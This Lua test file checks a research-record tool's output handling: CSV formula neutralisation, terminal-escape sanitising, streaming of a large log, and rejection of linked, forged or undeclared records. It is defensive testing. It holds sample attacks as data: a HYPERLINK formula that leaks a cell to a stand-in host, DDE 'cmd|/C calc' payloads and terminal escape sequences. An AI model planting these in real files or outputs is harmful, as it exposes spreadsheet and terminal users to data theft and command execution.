-- Every output sink escapes, and one record reader,
-- each as a class, on records copied from experiments/final into a temporary root and
-- forged there (a field edited, its checksums recomputed with the suite's own functions,
-- as an attacker could):
--   1. CSV formula injection: a metric key, a config value and their other spellings
--      (= + - @ tab CR, after a blank, full width) reach export, export --curves and
--      compare --csv only with a leading apostrophe; real numbers stay numbers
--   2. terminal escapes: base.printable (the one rule) on ESC, CSI, OSC, BEL, backspace,
--      CR, DEL, 8-bit C1 and invalid UTF-8; compare's table, a warning quoting a folder
--      name, an error quoting an argument and export on a terminal carry none raw
--   3. export --curves streams: a 24 MiB log.csv exported with a peak RSS far below its
--      parsed size (measured with /usr/bin/time when present)
--   4. one record reader: symbolic links (study, variant, seed folder), a record failing
--      its checksums or without them, folder names that are not names, a variant or seed
--      the study does not declare, a seed folder holding another seed: skipped with a
--      warning by compare and export, and by analyze's study_records
--   5. compare never averages over two setups of one study: a row per setup, showing
--      the differing key, in the table, --csv and --json
local check = require "check"
local fs = require "repro.core.fs"
local json = require "repro.core.json"
local sys = require "repro.sys"
local base = require "repro.core.base"
local record = require "repro.record"
local results = require "repro.report.results"
local t = check.new("test_outputs")
local repro = os.getenv("REPRO") or "bin/repro"
if repro:sub(1, 1) ~= "/" then repro = os.getenv("PWD") .. "/" .. repro end
local src = os.getenv("PWD") .. "/experiments/final"
local dir = check.tmpdir()
local q = fs.quote

local function sh(cmd) return os.execute(cmd) end

-- A copy of final's record variant/seed-s at dest.
local function copy_record(variant, seed, dest)
  fs.mkdir_p(dest)
  sh(string.format("cp %s/%s/seed-%d/*.json %s/%s/seed-%d/log.csv %s", q(src), variant, seed,
    q(src), variant, seed, q(dest)))
end

-- Edits the record at rdir (edit(cfg, metrics) changes the decoded files; log replaces
-- log.csv) and recomputes its checksums as the suite does: a forgery verify accepts.
local function forge(rdir, edit, log)
  local cfg = json.decode(fs.read(rdir .. "/config.json"))
  local m = json.decode(fs.read(rdir .. "/metrics.json"))
  if edit then edit(cfg, m) end
  check.write(rdir .. "/config.json", json.pretty(cfg))
  check.write(rdir .. "/metrics.json", json.pretty(m))
  if log then check.write(rdir .. "/log.csv", log) end
  local man = json.decode(fs.read(rdir .. "/manifest.json"))
  for _, f in ipairs(record.HASHED) do man.sha256[f] = sys.sha256_file(rdir .. "/" .. f, true) end
  check.write(rdir .. "/manifest.json", record.manifest_text(man))
  t:eq(record.verify(rdir), "verified", "the forged record " .. rdir .. " verifies")
end

local function run(args) return check.run(repro .. " " .. args) end

-- CSV text -> list of rows, each a list of fields (RFC 4180 quoting).
local function parse_csv(text)
  local rows, row, field, i, inq = {}, {}, {}, 1, false
  while i <= #text do
    local c = text:sub(i, i)
    if inq then
      if c == '"' and text:sub(i + 1, i + 1) == '"' then
        field[#field + 1] = '"'
        i = i + 1
      elseif c == '"' then
        inq = false
      else
        field[#field + 1] = c
      end
    elseif c == '"' then
      inq = true
    elseif c == "," then
      row[#row + 1] = table.concat(field)
      field = {}
    elseif c == "\n" then
      row[#row + 1] = table.concat(field)
      rows[#rows + 1] = row
      row, field = {}, {}
    else
      field[#field + 1] = c
    end
    i = i + 1
  end
  return rows
end

-- Every field of the CSV text that a spreadsheet would read as a formula.
local function formulas(text)
  local bad = {}
  for _, row in ipairs(parse_csv(text)) do
    for _, f in ipairs(row) do
      local lead = f:match("^ *(.*)$")
      if not tonumber(f) and f ~= "-inf" and f ~= "-nan" and (lead:match("^[=+%-@\t\r]") or
          lead:match("^\u{FF1D}") or lead:match("^\u{FF0B}") or lead:match("^\u{FF0D}") or
          lead:match("^\u{FF20}")) then
        bad[#bad + 1] = f
      end
    end
  end
  return bad
end

-- 1. CSV formula injection ------------------------------------------------------------
local csv_cases = {
  { "=1+1", "'=1+1" }, { "+1+cmd", "'+1+cmd" }, { "-2+3", "'-2+3" }, { "@SUM(A1)", "'@SUM(A1)" },
  { "\t=1", "'\t=1" }, { "\r=1", "\"'\r=1\"" }, { "  =1", "'  =1" }, { "\u{FF1D}1", "'\u{FF1D}1" },
  { "-", "'-" }, { "-0.19", "-0.19" }, { "1e-3", "1e-3" }, { "+5", "+5" }, { ".5", ".5" },
  { "-inf", "-inf" }, { "nan", "nan" }, { "a=b", "a=b" }, { "x,=y", "\"x,=y\"" },
}
for _, c in ipairs(csv_cases) do
  t:eq(results.csv_field(c[1]), c[2], "csv_field " .. base.printable(c[1]))
end
t:eq(results.csv_field(-0.19), "-0.19", "a number stays a number")
t:eq(results.csv_field(-math.huge), "-inf", "-inf (a number) stays a number")
t:eq(results.csv_field(-1e-05), "-1e-05", "a negative exponent stays a number")

local root = dir .. "/root"
local fin = root .. "/final"
for _, v in ipairs({ "none", "layernorm" }) do
  for s = 1, 2 do copy_record(v, s, string.format("%s/%s/seed-%d", fin, v, s)) end
end
local HYPER = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
forge(fin .. "/none/seed-1", function(cfg, m)
  m[HYPER] = 1
  m["@cmd"] = 2
  cfg.data = "+cmd|' /C calc'!A0"
end)
forge(fin .. "/none/seed-2", function(cfg, m)
  m[HYPER] = 3
  m["@cmd"] = 4
  cfg.data = "-2+3+cmd|' /C calc'!A0"
end)
local code, out, err = run("export final --out-root " .. q(root))
t:eq(code, 0, "export of the forged records exits 0: " .. err)
t:eq(#formulas(out), 0, "export: no cell or header a spreadsheet runs: " ..
  base.printable(table.concat(formulas(out), " | ")))
t:ok(out:find("\"'" .. HYPER:gsub('"', '""') .. "\"", 1, true), "the metric key is a " ..
  "header, neutralized and quoted")
t:ok(out:find("'@cmd", 1, true) and out:find("'+cmd|", 1, true) and out:find("'-2+3+cmd", 1, true),
  "@, + and - cells neutralized")
code, out, err = run("compare final --csv --out-root " .. q(root) .. " --metrics " ..
  q("@cmd,val_loss"))
t:eq(code, 0, "compare --csv with the forged metric exits 0: " .. err)
t:eq(#formulas(out), 0, "compare --csv: no formula: " .. base.printable(table.concat(formulas(out), " | ")))
t:ok(out:find("'@cmd_mean", 1, true), "compare --csv: the metric's header neutralized")
code, out, err = run("compare final --runs --csv --out-root " .. q(root))
t:eq(#formulas(out), 0, "compare --runs --csv: no formula: " ..
  base.printable(table.concat(formulas(out), " | ")))
-- a log.csv header is a column name in export --curves
local lrec = fin .. "/layernorm/seed-1"
local ltext = fs.read(lrec .. "/log.csv"):gsub("^step,", "step,=cmd()+")
forge(lrec, nil, ltext)
code, out, err = run("export final/layernorm/seed-1 --curves --out-root " .. q(root))
t:eq(code, 0, "export --curves exits 0: " .. err)
t:eq(#formulas(out), 0, "export --curves: no formula: " ..
  base.printable(table.concat(formulas(out), " | ")))
t:ok(out:find(",'=cmd()+", 1, true), "export --curves: the log column neutralized")
t:ok(out:find(",%d[%d.]*e%-%d+\n"), "numbers with a negative exponent stay numbers in the curves")

-- 2. Terminal escapes -----------------------------------------------------------------
local esc_cases = {
  { "a\27[2Jb", "a\\x1b[2Jb" }, { "\27]0;pwned\7", "\\x1b]0;pwned\\x07" }, { "x\8y", "x\\x08y" },
  { "x\ry", "x\\x0dy" }, { "x\127", "x\\x7f" }, { "\u{9b}2J", "\\u009b2J" },
  { "\u{9d}0;t\u{9c}", "\\u009d0;t\\u009c" }, { "\x9b2J", "\\x9b2J" },
  { "\xc0\x9b", "\\xc0\\x9b" }, { "\xe0\x80\x9b", "\\xe0\\x80\\x9b" }, { "\xed\xa0\x80", "\\xed\\xa0\\x80" },
  { "\xe2\x82", "\\xe2\\x82" }, { "±é€😀", "±é€😀" }, { "a\nb", "a\\x0ab" },
  { "a\u{202e}cba", "a\\u202ecba" }, { "\u{2066}x\u{2069}", "\\u2066x\\u2069" },
}
for _, c in ipairs(esc_cases) do
  t:eq(base.printable(c[1]), c[2], "printable " .. c[2])
end
t:eq(base.printable("a\nb\tc\27", true), "a\nb\tc\\x1b", "keep_lines keeps newline and tab only")

-- a byte a terminal obeys: C0 but newline, DEL, 8-bit C1 raw or in UTF-8
local function raw_controls(s)
  local n = 0
  for _ in s:gmatch("[%z\1-\9\11-\31\127]") do n = n + 1 end
  for _ in s:gmatch("\xc2[\x80-\x9f]") do n = n + 1 end
  for p = 1, #s do
    local b = s:byte(p)
    if b >= 0x80 and b <= 0x9f and (p == 1 or s:byte(p - 1) < 0xc0) and
        not (p > 1 and s:byte(p - 1) >= 0x80) then
      n = n + 1
    end
  end
  return n
end
forge(fin .. "/layernorm/seed-2", function(cfg, m)
  cfg.data = "\27]0;pwned\7\27[2J\u{9b}2J\x9b"
  m["\27[31mred"] = 5
end)
code, out, err = check.run("COLUMNS=300 " .. repro .. " compare final --runs --out-root " ..
  q(root))
t:eq(code, 0, "compare --runs with escapes in a config value: " .. err)
t:eq(raw_controls(out), 0, "compare's table: no raw control: " .. base.printable(out, true))
t:ok(out:find("\\x1b]0;pwned\\x07", 1, true) and out:find("\\u009b2J", 1, true),
  "compare's table shows them escaped")
code, _, err = run("compare final --out-root " .. q(root) .. " --metrics " .. q("\u{9b}2Jnope"))
t:ok(code ~= 0 and raw_controls(err) == 0 and err:find("\\u009b2Jnope", 1, true),
  "an error quoting an argument with an 8-bit CSI: escaped: " .. base.printable(err))
code, _, err = run("compare " .. q("\27]0;x\7nope"))
t:ok(code ~= 0 and raw_controls(err) == 0 and err:find("\\x1b", 1, true),
  "an error quoting an argument with an OSC: escaped: " .. base.printable(err))
local evil = root .. "/final/\27[2J\u{9b}evil"
copy_record("none", 3, evil .. "/seed-3")
code, out, err = run("compare final --out-root " .. q(root))
t:ok(code == 0 and raw_controls(err) == 0 and err:find("\\x1b[2J\\u009bevil", 1, true) and
  err:find("not part of the study final", 1, true),
  "a folder name with escapes: skipped, its warning escaped: " ..
  base.printable(err, true))
t:ok(not out:find("evil", 1, true), "its record is not read")
if sys.stat("/usr/bin/script") then
  -- on a terminal (script(1) gives one), export's CSV is escaped as well
  local tty_out = dir .. "/tty.txt"
  sh(string.format("script -qec %s %s >/dev/null 2>&1", q(repro .. " export final/layernorm/seed-2 --out-root " ..
    q(root)), q(tty_out)))
  local text = fs.read(tty_out) or ""
  t:ok(text:find("\\x1b]0;pwned", 1, true) and not text:find("\27]0;pwned", 1, true),
    "export on a terminal: the value escaped")
  t:ok(text:find("\\x1b[31mred", 1, true) and not text:find("\27[31mred", 1, true),
    "export on a terminal: the metric's header escaped")
  sh(string.format("script -qec %s %s >/dev/null 2>&1", q(repro .. " compare final --runs --csv --out-root " ..
    q(root)), q(tty_out)))
  text = fs.read(tty_out) or ""
  t:ok(text:find("\\u009b2J", 1, true) and not text:find("\u{9b}2J", 1, true),
    "compare --csv on a terminal: the value escaped")
end
-- verify names each record it does not verify: the folder's name escaped
local vdir = dir .. "/vroot/final/none/x\u{9b}2J\8"
fs.mkdir_p(vdir)
check.write(vdir .. "/config.json", "{}")
code, out = run("verify " .. q(dir .. "/vroot"))
t:ok(raw_controls(out) == 0 and out:find("unfinished", 1, true) and out:find("x\\u009b2J\\x08", 1, true),
  "verify: a record folder's name escaped: " .. base.printable(out, true))
-- to a pipe or a file the data is kept as it is (pandas reads the value written)
code, out = run("export final/layernorm/seed-2 --out-root " .. q(root))
t:ok(out:find("\27]0;pwned", 1, true), "export to a pipe keeps the value's bytes")
os.execute("rm -rf " .. q(evil))

-- 3. export --curves streams ------------------------------------------------------------
local big = dir .. "/big/final/none/seed-4"
copy_record("none", 4, big)
local ltxt = fs.read(big .. "/log.csv")
local head, body = ltxt:match("^([^\n]*\n)(.*)$")
local parts = { head }
local reps = math.ceil(24 * 1024 * 1024 / #body)
for i = 1, reps do parts[#parts + 1] = body end
forge(big, nil, table.concat(parts))
parts = nil
local size = sys.stat(big .. "/log.csv").size
local time_v = sys.stat("/usr/bin/time") and "/usr/bin/time -v " or ""
-- under AddressSanitizer (make test-asan) freed memory is held in a quarantine, 256 MiB
-- by default: kept small here so the RSS measures what the export holds
code, out, err = check.run(time_v .. "env ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}" ..
  "quarantine_size_mb=8 " .. repro .. " export --curves final --out-root " .. q(dir .. "/big") ..
  " --out " .. q(dir .. "/curves.csv"))
t:eq(code, 0, "export --curves of a " .. size .. "-byte log.csv exits 0")
local rows = 0
for _ in io.lines(dir .. "/curves.csv") do rows = rows + 1 end
local lines_in = 0
for _ in ltxt:gmatch("\n") do lines_in = lines_in + 1 end
t:ok(rows > (lines_in - 1) * reps, "every row of the big log exported (" .. rows .. " rows)")
local rss_kb = tonumber(err:match("Maximum resident set size %(kbytes%): (%d+)") or "")
if rss_kb then
  t:ok(rss_kb < 100 * 1024, string.format("peak RSS %.0f MiB for a %.0f MiB log.csv (under 100 MiB)",
    rss_kb / 1024, size / 1048576))
  print(string.format("test_outputs: export --curves of a %.1f MiB log.csv: peak RSS %.1f MiB",
    size / 1048576, rss_kb / 1024))
end
os.remove(dir .. "/curves.csv")
os.execute("rm -rf " .. q(dir .. "/big"))

-- 4. One record reader --------------------------------------------------------------------
local r4 = dir .. "/r4"
for _, v in ipairs({ "none", "rmsnorm" }) do
  for s = 1, 2 do copy_record(v, s, string.format("%s/final/%s/seed-%d", r4, v, s)) end
end
local function compare_r4(extra)
  return run("compare final --runs --csv --metrics val_loss --out-root " .. q(r4) .. (extra or ""))
end
code, out, err = compare_r4()
t:ok(code == 0 and #parse_csv(out) == 5 and not err:find("skipped", 1, true) and
  not err:find("not part of", 1, true), "4 clean records read, none skipped: " .. err)
-- links: a seed folder, a variant folder, and the study folder itself
local outside = dir .. "/outside"
copy_record("layernorm", 1, outside .. "/layernorm/seed-1")
sh("ln -s " .. q(outside .. "/layernorm/seed-1") .. " " .. q(r4 .. "/final/none/seed-3"))
sh("ln -s " .. q(outside .. "/layernorm") .. " " .. q(r4 .. "/final/layernorm"))
code, out, err = compare_r4()
t:ok(code == 0 and #parse_csv(out) == 5 and err:find("final/none/seed-3: skipped: " .. r4 ..
  "/final/none/seed-3 is a symbolic link", 1, true) and err:find("final/layernorm: not part of " ..
  "the study final (a symbolic link", 1, true),
  "linked seed and variant folders: skipped with a warning: " .. err)
code, out, err = run("export final --out-root " .. q(r4))
t:ok(code == 0 and #parse_csv(out) == 5 and err:find("symbolic link", 1, true),
  "export skips them too: " .. err)
local lroot = dir .. "/lroot"
fs.mkdir_p(lroot)
sh("ln -s " .. q(r4 .. "/final") .. " " .. q(lroot .. "/final"))
code, out, err = run("compare final --out-root " .. q(lroot))
t:ok(code ~= 0 and err:find("symbolic link", 1, true) and err:find("no finished run records", 1, true),
  "a linked study folder: its records refused: " .. err)
-- analyze's record reads: the same reader, the same rules
local study = require "repro.study"
local analysis = require "repro.analysis"
local s = study.load(os.getenv("PWD") .. "/lua/experiments/final.lua")
local _, missing, warnings = analysis.study_records(s, r4 .. "/final")
local joined = table.concat(warnings or {}, "\n")
t:ok(joined:find("final/none/seed-3: skipped: " .. r4 .. "/final/none/seed-3 is a symbolic link", 1, true) and
  joined:find("final/layernorm/seed-1: skipped: " .. r4 .. "/final/layernorm is a symbolic link", 1, true),
  "analyze (study_records): linked seed and variant folders refused with a warning: " .. joined)
t:ok(#missing == 15 - 4, "analyze: only the 4 real records are done (" .. #missing .. " missing)")
os.remove(r4 .. "/final/none/seed-3")
os.remove(r4 .. "/final/layernorm")
-- checksums: a tampered record, a record without checksums
local tam = r4 .. "/final/rmsnorm/seed-2"
check.write(tam .. "/metrics.json", fs.read(tam .. "/metrics.json"):gsub('"val_loss": [%d.]+', '"val_loss": 1.5'))
local unt = r4 .. "/final/rmsnorm/seed-1"
local man = json.decode(fs.read(unt .. "/manifest.json"))
man.sha256, man.manifest_sha256 = nil, nil
check.write(unt .. "/manifest.json", json.pretty(man))
code, out, err = compare_r4()
t:ok(code == 0 and #parse_csv(out) == 3 and err:find("rmsnorm/seed-2: skipped: its record fails its checksums",
  1, true) and err:find("rmsnorm/seed-1: skipped: manifest.json holds no checksums", 1, true),
  "compare: a tampered and an unchecksummed record skipped, saying so: " .. err)
_, missing, warnings = analysis.study_records(s, r4 .. "/final")
joined = table.concat(warnings or {}, "\n")
t:ok(joined:find("rmsnorm/seed-2: skipped: its record fails its checksums", 1, true) and
  joined:find("rmsnorm/seed-1: skipped: manifest.json holds no checksums", 1, true),
  "analyze: the same two refused with the same words: " .. joined)
sh("rm -rf " .. q(r4 .. "/final/rmsnorm"))
-- names: a folder that is not a name, an undeclared variant, an undeclared seed, a seed
-- folder holding another seed
copy_record("none", 1, r4 .. "/final/@evil/seed-1")
copy_record("none", 1, r4 .. "/final/extra/seed-1")
copy_record("none", 1, r4 .. "/final/none/seed-7")
local s99 = r4 .. "/final/none/seed-99"
copy_record("none", 1, s99)
forge(s99, function(cfg) cfg.seed = 99 end)
code, out, err = compare_r4()
t:ok(code == 0 and #parse_csv(out) == 3, "only the 2 declared records read: " .. out)
-- each is not part of the study, in one wording (record/set.lua)
t:ok(err:find("final/@evil: not part of the study final (not one of its variants)", 1, true),
  "a folder that is not a name: not part of the study: " .. err)
t:ok(err:find("final/extra: not part of the study final (not one of its variants)", 1, true),
  "an undeclared variant: not part of the study: " .. err)
t:ok(err:find("none/seed-7: not part of the study final (not one of its seeds)", 1, true),
  "a seed folder the study does not have: not part of the study: " .. err)
t:ok(err:find("none/seed-99: not part of the study final (not one of its seeds)", 1, true),
  "an undeclared seed: not part of the study: " .. err)
code, out, err = run("export final --out-root " .. q(r4))
t:ok(code == 0 and #parse_csv(out) == 3 and err:find("final/extra: not part of the study final", 1, true),
  "export: the same names skipped: " .. err)

-- 5. compare never merges two setups of one study --------------------------------------
local plain = dir .. "/plain"
local setr = dir .. "/set/n_layer=4"
for s5 = 1, 2 do
  copy_record("none", s5, string.format("%s/final/none/seed-%d", plain, s5))
  local sd = string.format("%s/final/none/seed-%d", setr, s5)
  copy_record("none", s5, sd)
  forge(sd, function(cfg, m)
    cfg.n_layer = 4
    m.val_loss = m.val_loss + 1
  end)
end
local targets = q(plain .. "/final") .. " " .. q(setr .. "/final")
code, out, err = run("compare " .. targets .. " --json")
local doc = code == 0 and json.decode(out) or {}
t:eq(#doc, 2, "--json: two rows for the two setups: " .. err)
local layers = {}
for _, row in ipairs(doc) do
  layers[#layers + 1] = string.format("%d:%d", row.config.n_layer, row.n)
end
table.sort(layers)
t:eq(table.concat(layers, ","), "4:2,8:2", "each row shows its n_layer and counts its own 2 runs")
t:ok(err:find("never averaged together", 1, true) and err:find("final none", 1, true),
  "a note says why the variant has two rows: " .. err)
code, out = run("compare " .. targets .. " --csv")
local crows = parse_csv(out)
t:eq(#crows, 3, "--csv: a header and two rows")
t:eq(table.concat(crows[1] or {}, ",", 1, 4), "study,variant,n,n_layer", "--csv: n_layer is a column")
code, out = check.run("COLUMNS=200 " .. repro .. " compare " .. targets)
local n_rows = 0
for l in out:gmatch("[^\n]+") do
  if l:match("^final%s+none") then n_rows = n_rows + 1 end
end
t:ok(code == 0 and n_rows == 2 and out:find("n_layer", 1, true), "the table: two rows with " ..
  "n_layer:\n" .. out)
-- the same setup under two roots is one setup: one row
code, out = run("compare " .. q(plain .. "/final") .. " --json")
doc = json.decode(out)
t:eq(#doc, 1, "one setup: one row")

check.rmtree(dir)
t:done()
